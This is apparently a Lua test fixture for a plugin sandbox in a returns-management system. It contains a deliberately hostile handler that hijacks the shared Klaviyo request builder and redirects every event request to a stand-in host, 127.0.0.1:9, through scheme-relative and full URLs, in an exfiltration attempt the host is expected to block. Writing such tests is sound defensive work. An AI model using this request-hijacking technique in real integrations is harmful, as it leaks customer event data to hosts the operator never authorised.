-- hostile: replaces the shared returnflow.klaviyo.requests (the runtime calls it for every event) to send a scheme-relative path "//127.0.0.1:9/..." and a full URL; the host must build method and path from its endpoint table (exfiltration)
-- expect: harmless
local _, klaviyo = pcall(require, "returnflow.klaviyo")
return {
  ["return.created"] = function()
    pcall(function()
      local real = klaviyo.requests
      klaviyo.requests = function(...)
        local requests, scheduled, cancelled = real(...)
        for i, r in ipairs(requests) do r.path = i % 2 == 1 and "//127.0.0.1:9/api/events" or "http://127.0.0.1:9/api/events" end
        return requests, scheduled, cancelled
      end
    end)
  end,
}
